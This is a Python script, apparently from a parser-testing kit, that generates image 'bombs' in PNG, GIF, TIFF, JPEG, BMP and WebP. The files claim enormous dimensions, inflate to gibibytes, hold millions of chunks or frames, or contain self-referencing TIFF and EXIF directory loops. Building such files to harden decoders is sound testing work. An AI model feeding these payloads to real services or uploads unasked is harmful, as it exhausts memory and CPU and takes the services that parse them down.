"""make-bomb-picture.py - pictures that claim much, hold much or lead in circles."""
import io
import struct
import zlib

from bomb import deflated, kind, main


def chunk(name, body):
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png(width, height, *before, data=None):
    rows = data if data is not None else zlib.compress(bytes((1 + (width + 7) // 8) * height), 9)
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + b"".join([chunk(b"IHDR", head), *before, chunk(b"IDAT", rows), chunk(b"IEND", b"")])


def zeros(mib):
    return deflated(mib, 15)[0]


@kind("png")
def png_pixels():
    """30,000 pixels a side"""
    return png(30000, 30000)


@kind("png")
def png_claim():
    """2,000,000,000 pixels a side and no pixel"""
    return png(2000000000, 2000000000, data=zlib.compress(b"\0"))


@kind("png")
def png_rows():
    """a gibibyte of pixels behind a head that promises a hundred"""
    return png(100, 100, data=zeros(1 << 10))


@kind("png")
def png_text():
    """a compressed remark of a gibibyte"""
    return png(100, 100, chunk(b"zTXt", b"Comment\0\0" + zeros(1 << 10)))


@kind("png")
def png_texts():
    """two thousand compressed remarks of a mebibyte"""
    return png(100, 100, *[chunk(b"iTXt", b"Comment\0\1\0\0\0" + zeros(1))] * 2000)


@kind("png")
def png_profile():
    """a colour profile that becomes a gibibyte"""
    return png(100, 100, chunk(b"iCCP", b"icc\0\0" + zeros(1 << 10)))


@kind("png")
def png_chunks():
    """a million remarks of nothing"""
    return png(100, 100, *[chunk(b"tEXt", b"a\0")] * 1000000)


@kind("png")
def png_frames():
    """a hundred thousand frames"""
    frame = [chunk(b"fcTL", struct.pack(">IIIIIHHBB", i, 1, 1, 0, 0, 1, 1, 0, 0)) for i in range(100000)]
    return png(1, 1, chunk(b"acTL", struct.pack(">II", 100000, 0)), *frame)


def gif(width, height, frames):
    yield b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00"
    for _ in range(frames // 1000 or 1):
        yield frame * min(frames, 1000)
    yield b";"


@kind("gif")
def gif_frames():
    """a million frames of one pixel"""
    return gif(1, 1, 1000000)


@kind("gif")
def gif_pixels():
    """65,535 pixels a side, a thousand frames"""
    return gif(65535, 65535, 1000)


def tiff(tags, following=0, tail=b""):
    out = struct.pack("<2sHIH", b"II", 42, 8, len(tags))
    for tag, kind_of, count, value in tags:
        out += struct.pack("<HHII", tag, kind_of, count, value)
    return out + struct.pack("<I", following) + tail


def plain(width, height):
    return [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 1), (259, 3, 1, 1), (262, 3, 1, 1),
            (273, 4, 1, 8), (277, 3, 1, 1), (278, 4, 1, height), (279, 4, 1, 1)]


@kind("tiff")
def tiff_loop():
    """a directory that is its own next one"""
    return tiff(plain(10, 10), 8)


@kind("tiff")
def tiff_pixels():
    """a million pixels a side"""
    return tiff(plain(1000000, 1000000))


@kind("tiff")
def tiff_frames():
    """a hundred thousand pages"""
    size = 2 + 9 * 12 + 4
    body = tiff(plain(1, 1))[8:-4]
    return [struct.pack("<2sHI", b"II", 42, 8)] + [
        body + struct.pack("<I", 8 + size * (i + 1) if i < 99999 else 0) for i in range(100000)]


@kind("tiff")
def tiff_counts():
    """a field of four billion values"""
    return tiff(plain(10, 10) + [(305, 2, 0xFFFFFFF0, 8)])


def jpeg(*segments, width=16, height=16):
    out = io.BytesIO()
    out.write(b"\xff\xd8")
    for marker, body in segments:
        out.write(struct.pack(">BBH", 255, marker, len(body) + 2) + body)
    table = bytes([0, 1] + [0] * 15 + [0])
    out.write(b"\xff\xdb\0\x43\0" + b"\1" * 64)
    out.write(struct.pack(">BBHBHHBBBB", 255, 0xC0, 11, 8, height, width, 1, 1, 0x11, 0))
    for where in (0, 0x10):
        out.write(b"\xff\xc4" + struct.pack(">H", 2 + len(table)) + bytes([where]) + table[1:])
    out.write(b"\xff\xda\0\x08\1\1\0\0\x3f\0" + bytes(8) + b"\xff\xd9")
    return out.getvalue()


@kind("jpg")
def jpeg_pixels():
    """65,500 pixels a side"""
    return jpeg(width=65500, height=65500)


@kind("jpg")
def exif_loop():
    """directories of EXIF that lead to each other"""
    tags = [(0x8769, 4, 1, 8), (0x8825, 4, 1, 8), (0xA005, 4, 1, 8)]
    return jpeg((0xE1, b"Exif\0\0" + tiff(tags, 8)))


@kind("jpg")
def exif_fields():
    """five thousand fields in each of two hundred EXIF blocks"""
    return jpeg(*[(0xE1, b"Exif\0\0" + tiff([(270, 2, 4, 0x20202020)] * 5000))] * 200)


@kind("jpg")
def jpeg_segments():
    """a million empty remarks"""
    return jpeg(*[(0xFE, b"")] * 1000000)


@kind("jpg")
def xmp_large():
    """XMP of forty megabytes in pieces"""
    key = b"http://ns.adobe.com/xmp/extension/\0" + b"0" * 32
    whole = b"<x>" + b"<a/>" * 10000000 + b"</x>"
    return jpeg(*[(0xE1, key + struct.pack(">II", len(whole), at) + whole[at:at + 65000])
                  for at in range(0, len(whole), 65000)])


@kind("bmp")
def bmp_pixels():
    """30,000 pixels a side and no pixel"""
    head = struct.pack("<IiiHHIIiiII", 40, 30000, 30000, 1, 1, 0, 0, 0, 0, 2, 0)
    return b"BM" + struct.pack("<IHHI", 62, 0, 0, 62) + head + bytes(8)


@kind("webp")
def webp_pixels():
    """16,384 pixels a side in a kilobyte"""
    bits = 0x2F | (16383 << 8) | (16383 << 22)
    body = bits.to_bytes(5, "little") + bytes(15)
    return b"RIFF" + struct.pack("<I", 4 + 8 + len(body)) + b"WEBPVP8L" + struct.pack("<I", len(body)) + body


@kind("webp")
def webp_frames():
    """a hundred thousand frames"""
    still = b"VP8L" + struct.pack("<I", 20) + (0x2F).to_bytes(5, "little") + bytes(15)
    frame = b"ANMF" + struct.pack("<I", 16 + len(still)) + bytes(16) + still
    body = b"VP8X" + struct.pack("<I", 10) + b"\x02" + bytes(9) + b"ANIM" + struct.pack("<I", 6) + bytes(6) + frame * 100000
    return b"RIFF" + struct.pack("<I", 4 + len(body)) + b"WEBP" + body


main(__doc__)
